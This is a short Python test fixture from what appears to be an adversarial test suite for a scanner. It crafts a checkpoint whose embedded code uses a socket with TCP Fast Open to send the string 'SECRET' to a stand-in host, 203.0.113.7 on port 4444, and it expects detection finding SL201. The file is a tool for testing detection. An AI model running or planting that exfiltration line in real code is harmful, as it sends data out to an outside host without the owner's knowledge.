"""Class: exfiltration. TCP Fast Open: sendto connects a stream and sends with its first packet."""

from pathlib import Path

from tests.adversarial.craft import ADDRESS, PORT, checkpoint, run

EXPECT = {"address": ADDRESS, "port": PORT, "data": "SECRET", "finding": "SL201"}


def make(folder: Path) -> Path:
    source = "import socket; socket.socket().sendto(b'SECRET', socket.MSG_FASTOPEN, ('203.0.113.7', 4444))"
    return checkpoint(folder, run(source))
